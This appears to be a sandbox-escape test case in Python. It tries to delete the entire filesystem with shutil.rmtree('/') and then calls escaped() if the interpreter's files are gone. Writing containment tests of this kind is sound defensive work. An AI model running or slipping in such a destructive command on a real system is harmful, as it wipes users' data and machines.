# ending: failed
import os
import shutil
import sys

before = os.path.exists(sys.executable)
shutil.rmtree("/", ignore_errors=True)
if not os.path.exists(os.__file__) or not before:
    escaped()
